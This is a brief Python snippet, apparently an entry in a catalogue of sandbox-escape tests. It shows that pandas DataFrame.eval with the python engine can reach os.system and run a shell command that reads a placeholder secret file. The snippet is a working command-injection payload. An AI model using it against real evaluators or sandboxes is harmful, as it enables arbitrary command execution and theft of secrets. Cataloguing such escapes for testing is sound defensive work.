# DataFrame.eval does the same.
# effect: run
# tree: scientific
import pandas
pandas.DataFrame({"a": [1]}).eval("b = @pandas.io.common.os.system('cat @SECRET@')", engine="python")
